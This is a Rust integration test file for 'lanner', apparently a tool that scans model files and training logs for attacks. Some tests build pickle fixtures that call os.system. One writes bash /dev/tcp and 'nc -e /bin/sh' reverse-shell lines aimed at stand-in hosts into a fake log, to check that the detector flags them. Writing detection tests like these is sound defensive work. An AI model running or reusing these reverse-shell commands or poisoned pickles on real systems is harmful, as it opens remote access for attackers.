//! Every verb as a user calls it: output, exit code, errors.

use std::time::Duration;

use serde_json::Value;

use super::calls_os_system;
use crate::support::program::{Agent, lanner, lanner_in, stderr, stdout};
use crate::support::{get, wait_for};

fn json_lines(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).expect("each line is one object")).collect()
}

fn models() -> tempfile::TempDir {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    std::fs::write(root.join("bad.pkl"), calls_os_system("x")).expect("there is space");
    std::fs::write(root.join("good.pkl"), b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s.").expect("there is space");
    std::fs::write(root.join("cut.pkl"), b"\x80\x02}q\x00X\x01\x00\x00").expect("there is space");
    directory
}

#[test]
fn scan_tells_each_file_in_its_documented_shape() {
    let directory = models();
    let output = lanner_in(directory.path(), &["scan", "--format", "json", "."]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let lines = json_lines(&stdout(&output));
    assert_eq!(lines.len(), 3);
    let of = |name: &str| {
        lines.iter().find(|line| line["path"].as_str().is_some_and(|path| path.ends_with(name))).expect("it is told")
    };
    let bad = of("bad.pkl");
    assert_eq!((&bad["verdict"], &bad["format"]), (&"malicious".into(), &"pickle".into()));
    assert_eq!(bad["sha256"].as_str().map(str::len), Some(64));
    let finding = bad["findings"].as_array().expect("a list").iter().find(|finding| finding["rule"] == "SCN-002");
    let finding = finding.expect("the call is found");
    assert_eq!(finding["severity"], "critical");
    assert!(finding["atlas"].as_array().is_some_and(|ids| ids.contains(&"AML.T0018.002".into())), "{finding}");
    assert!(finding["evidence"].to_string().contains("system"), "{finding}");
    assert!(finding["member"].is_string());
    let good = of("good.pkl");
    assert_eq!((&good["verdict"], good["findings"].as_array().map(Vec::len)), (&"clean".into(), Some(0)), "{good}");
    let cut = of("cut.pkl");
    assert!(cut["issues"].as_array().is_some_and(|issues| !issues.is_empty()), "never silently clean: {cut}");
}

#[test]
fn scan_ends_as_ci_expects() {
    let directory = models();
    let code = |arguments: &[&str]| lanner_in(directory.path(), arguments).status.code();
    assert_eq!(code(&["scan", "good.pkl"]), Some(0));
    assert_eq!(code(&["scan", "bad.pkl"]), Some(1));
    assert_eq!(code(&["scan", "bad.pkl", "--fail-on", "critical"]), Some(1));
    assert_eq!(code(&["scan", "good.pkl", "--fail-on", "none"]), Some(2));
    assert_eq!(code(&["scan", "missing.pkl"]), Some(2));
    assert_eq!(code(&["scan"]), Some(2));
    std::fs::write(directory.path().join("wrong.yml"), "title: [").expect("there is space");
    assert_eq!(code(&["scan", "good.pkl", "--rules", "wrong.yml"]), Some(3));
}

#[test]
fn scan_follows_links_and_tells_what_is_no_file() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    for folder in ["blobs", "snapshots"] {
        std::fs::create_dir(root.join(folder)).expect("it is empty");
    }
    std::fs::write(root.join("blobs/abc"), calls_os_system("x")).expect("there is space");
    std::os::unix::fs::symlink("../blobs/abc", root.join("snapshots/model.pkl")).expect("it can be made");
    std::os::unix::fs::symlink("..", root.join("snapshots/loop")).expect("it can be made");
    let made = std::process::Command::new("mkfifo").arg(root.join("snapshots/pipe.pkl")).status();
    assert!(made.is_ok_and(|status| status.success()));
    let output = lanner_in(root, &["scan", "--format", "json", "snapshots"]);
    assert_eq!(output.status.code(), Some(1));
    let lines = json_lines(&stdout(&output));
    let verdict = |name: &str| {
        let line = lines.iter().find(|line| line["path"].as_str().is_some_and(|path| path.ends_with(name)));
        line.map(|line| line["verdict"].clone())
    };
    assert_eq!(verdict("model.pkl"), Some("malicious".into()), "as a loader would follow the link: {lines:?}");
    assert_eq!(verdict("pipe.pkl"), Some("error".into()), "a pipe is told, not waited for");
    assert_eq!(lanner_in(root, &["scan", "/dev/zero"]).status.code(), Some(4), "nothing found, but not looked at");
    std::fs::create_dir(root.join("empty")).expect("it is empty");
    let output = lanner_in(root, &["scan", "empty"]);
    assert!(stderr(&output).contains("nothing was looked at"));
    let output = lanner_in(root, &["scan", "--format", "json", "missing.pkl", "blobs/abc"]);
    assert_eq!((output.status.code(), json_lines(&stdout(&output)).len()), (Some(2), 2), "the rest is scanned");
}

#[test]
fn an_agent_whose_output_nobody_reads_can_be_stopped() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    std::fs::create_dir(root.join("models")).expect("it is empty");
    let port = crate::support::free_port();
    let config = format!(
        "state: {{path: state}}\nhttp: {{listen: \"127.0.0.1:{port}\"}}\nsinks: {{stdout: {{format: ocsf}}}}\n\
         sources: {{filesystem: [{{name: models, paths: [models], settle_millis: 50}}]}}\n"
    );
    std::fs::write(root.join("lanner.yaml"), config).expect("there is space");
    let mut child = std::process::Command::new(crate::support::program::LANNER)
        .args(["run", "--config", "lanner.yaml"])
        .current_dir(root)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("the program can be run");
    for number in 0..200 {
        let name = format!("models/m-{number}.pkl");
        std::fs::write(root.join(name), calls_os_system(&format!("w{number}"))).expect("there is space");
    }
    let url = format!("http://127.0.0.1:{port}/metrics");
    wait_for("more alerts than a pipe holds", Duration::from_secs(60), || {
        let text = get(&url)?.1;
        let line = text.lines().find(|line| line.starts_with("lanner_detections_total{rule=\"SCN-002\""))?.to_owned();
        line.ends_with(" 200").then_some(())
    });
    let status = std::process::Command::new("kill").args(["-TERM", &child.id().to_string()]).status();
    assert!(status.expect("kill can be run").success());
    wait_for("the agent to end", Duration::from_secs(30), || child.try_wait().ok().flatten());
}

#[test]
fn one_job_attacked_in_two_ways_is_two_alerts_and_a_repeat_is_none() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    let config = format!(
        "sources: {{logs: [{{name: jobs, paths: [\"{}/*.log\"], start_at: beginning}}]}}\n\
         sinks: {{file: [{{name: file, path: alerts.jsonl}}]}}\n",
        root.join("logs").display()
    );
    std::fs::create_dir(root.join("logs")).expect("it is empty");
    let lines = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nbash -i >& /dev/tcp/192.0.2.9/4445 0>&1\nnc -e /bin/sh 192.0.2.7 9001\n";
    std::fs::write(root.join("logs/train.log"), lines).expect("there is space");
    let agent = Agent::start(root, &config).ready();
    let told = || {
        let text = std::fs::read_to_string(root.join("alerts.jsonl")).unwrap_or_default();
        text.lines().filter(|line| line.contains("TRN-004")).count()
    };
    wait_for("two alerts", Duration::from_secs(30), || (told() == 2).then_some(()));
    let repeated = wait_for("the repeat to be counted", Duration::from_secs(10), || {
        let count = agent.metric("lanner_detections_suppressed_total", "rule=\"TRN-004\"");
        (count >= 1.0).then_some(count)
    });
    assert!((repeated - 1.0).abs() < 0.1);
    assert_eq!(agent.stop(), Some(0));
}

#[test]
fn a_state_that_was_removed_is_noticed() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    let agent = Agent::start(root, "").ready();
    std::fs::remove_dir_all(root.join("state")).expect("it can be removed");
    wait_for("readiness to fail", Duration::from_secs(30), || {
        let (status, text) = get(&agent.url("/readyz?verbose"))?;
        (status == 503 && text.contains("removed or replaced")).then_some(())
    });
}

#[test]
fn scan_speaks_sarif() {
    let directory = models();
    let output = lanner_in(directory.path(), &["scan", "--format", "sarif", "."]);
    let log: Value = serde_json::from_str(&stdout(&output)).expect("one JSON document");
    assert_eq!(log["version"], "2.1.0");
    let run = &log["runs"][0];
    assert!(run["tool"]["driver"]["rules"].as_array().is_some_and(|rules| rules.len() >= 30));
    let result = run["results"].as_array().expect("a list").iter().find(|result| result["ruleId"] == "SCN-002");
    let result = result.expect("the call is found");
    assert_eq!(result["level"], "error");
    assert_eq!(
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "bad.pkl",
        "relative to the checkout"
    );
    assert!(result["partialFingerprints"]["lanner/v1"].is_string());
    assert_eq!(run["taxonomies"][0]["name"], "MITRE ATLAS");
}

#[test]
fn diff_tells_what_the_new_bytes_can_do_that_the_old_could_not() {
    let directory = models();
    let output = lanner_in(directory.path(), &["diff", "good.pkl", "bad.pkl"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stdout(&output).contains("system"), "{}", stdout(&output));
    let output = lanner_in(directory.path(), &["diff", "--format", "json", "good.pkl", "bad.pkl"]);
    let line = &json_lines(&stdout(&output))[0];
    assert!(line["facts"].to_string().contains("artifact.diff.added.pickle.dangerous"), "{line}");
    assert_eq!(lanner_in(directory.path(), &["diff", "good.pkl", "good.pkl"]).status.code(), Some(0));
    assert_eq!(lanner_in(directory.path(), &["diff", "good.pkl", "missing"]).status.code(), Some(2));
}

#[test]
fn the_demonstration_shows_three_attacks_and_cleans_up() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let output = std::process::Command::new(crate::support::program::LANNER)
        .arg("demo")
        .env("TMPDIR", directory.path())
        .output()
        .expect("the program can be run");
    let told = stdout(&output);
    assert_eq!(output.status.code(), Some(0), "{told}{}", stderr(&output));
    for rule in ["DIF-001", "SCN-002", "TRN-004"] {
        assert!(told.contains(rule), "`{rule}` is not in:\n{told}");
    }
    let left = std::fs::read_dir(directory.path()).expect("it is there").count();
    assert_eq!(left, 0, "nothing is left behind");
}

#[test]
fn configuration_can_be_begun_checked_and_described() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    assert!(lanner_in(root, &["config", "init"]).status.success());
    let again = lanner_in(root, &["config", "init"]);
    assert_eq!(again.status.code(), Some(2));
    assert!(stderr(&again).contains("--force"));
    let checked = lanner_in(root, &["config", "check", "lanner.yaml"]);
    assert!(checked.status.success(), "{}", stderr(&checked));
    // What is commented out in it is valid, too.
    let text = std::fs::read_to_string(root.join("lanner.yaml")).expect("it was written");
    let whole: String = text
        .lines()
        .map(|line| {
            let setting = line.trim_start().strip_prefix("# ").filter(|rest| {
                let first = rest.split_whitespace().next().unwrap_or_default();
                first == "-" || first.ends_with(':')
            });
            match setting {
                Some(setting) => format!("{}{setting}\n", &line[..line.len() - line.trim_start().len()]),
                None => format!("{line}\n"),
            }
        })
        .collect();
    for secret in ["webhook-secret", "platform-secret"] {
        std::fs::write(root.join(secret), "s").expect("there is space");
    }
    std::fs::write(root.join("whole.yaml"), whole).expect("there is space");
    let checked = lanner_in(root, &["config", "check", "whole.yaml"]);
    assert!(checked.status.success(), "{}", stderr(&checked));
    assert!(stdout(&checked).contains("9 sources, 5 sinks"), "{}", stdout(&checked));
    for what in ["config", "alert"] {
        let schema: Value = serde_json::from_str(&stdout(&lanner(&["config", "schema", what]))).expect("it is JSON");
        assert!(jsonschema::validator_for(&schema).is_ok(), "{what}");
    }
}

#[test]
fn alerts_follow_their_published_schema_and_can_be_listed_and_shown() {
    let directory = models();
    let root = directory.path();
    let config = "sources: {filesystem: [{name: models, paths: [.], include: [\"*.pkl\"]}]}\n\
                  sinks: {file: [{name: file, path: alerts.jsonl}]}\n";
    let agent = Agent::start(root, config).ready();
    let lines = wait_for("an alert in the file", Duration::from_secs(30), || {
        std::fs::read_to_string(root.join("alerts.jsonl")).ok().filter(|text| text.contains("SCN-002"))
    });
    let schema: Value = serde_json::from_str(&stdout(&lanner(&["config", "schema", "alert"]))).expect("it is JSON");
    let validator = jsonschema::validator_for(&schema).expect("it is a schema");
    for alert in json_lines(&lines) {
        assert!(validator.is_valid(&alert), "{alert}");
    }
    let arguments = |rest: &[&str]| -> Vec<String> {
        ["alerts", "--config", "lanner.yaml", "--format", "json"].iter().chain(rest).map(ToString::to_string).collect()
    };
    let call = |rest: &[&str]| {
        let arguments = arguments(rest);
        lanner_in(root, &arguments.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let listed = json_lines(&stdout(&call(&["list"])));
    let id = listed[0]["id"].as_str().expect("it has an id").to_owned();
    let shown = json_lines(&stdout(&call(&["show", &id[..8]])));
    assert_eq!(shown[0]["id"], id.as_str());
    assert_eq!(call(&["show", "ffffffffffffffff"]).status.code(), Some(1));
    let history = lanner_in(root, &["inventory", "--config", "lanner.yaml", "--format", "json", "history", "bad.pkl"]);
    assert_eq!(json_lines(&stdout(&history)).len(), 1);
    let status: Value = serde_json::from_str(&get(&agent.url("/api/v1/status")).expect("it answers").1).expect("JSON");
    assert_eq!(status["ready"], true);
    assert!(status["rules"].as_u64().is_some_and(|rules| rules >= 30), "{status}");
    assert_eq!(agent.stop(), Some(0));
}

#[test]
fn every_rule_has_its_counter_at_zero_from_the_start() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let agent = Agent::start(directory.path(), "{}\n".trim_start_matches("{}\n"));
    let text = wait_for("metrics", Duration::from_secs(30), || get(&agent.url("/metrics")).map(|(_, text)| text));
    for rule in ["REG-001", "SCN-002", "DIF-001", "TRN-004"] {
        let wanted = format!("lanner_detections_total{{rule=\"{rule}\"");
        let line = text.lines().find(|line| line.starts_with(&wanted)).unwrap_or_else(|| panic!("no `{wanted}`"));
        assert!(line.ends_with(" 0"), "{line}");
    }
}

#[test]
fn a_second_agent_on_one_state_is_told_so() {
    let directory = tempfile::tempdir().expect("a temporary directory can be made");
    let root = directory.path();
    std::fs::create_dir(root.join("models")).expect("it is empty");
    let agent = Agent::start(root, "sources: {filesystem: [{name: models, paths: [models]}]}\n").ready();
    let second = lanner_in(root, &["run", "--config", "lanner.yaml", "--listen", "127.0.0.1:0"]);
    assert_eq!(second.status.code(), Some(2));
    assert!(stderr(&second).contains("in use by another lanner"), "{}", stderr(&second));
    assert_eq!(agent.stop(), Some(0));
}

#[test]
fn shells_and_machines_learn_what_they_need() {
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let output = lanner(&["completions", shell]);
        assert!(output.status.success() && stdout(&output).contains("lanner"), "{shell}");
    }
    let about: Value = serde_json::from_str(&stdout(&lanner(&["version", "--json"]))).expect("it is JSON");
    assert_eq!(about["name"], "lanner");
    for verb in
        ["run", "scan", "diff", "rules", "inventory", "alerts", "config", "replay", "demo", "completions", "version"]
    {
        assert!(lanner(&[verb, "--help"]).status.success(), "{verb}");
    }
}
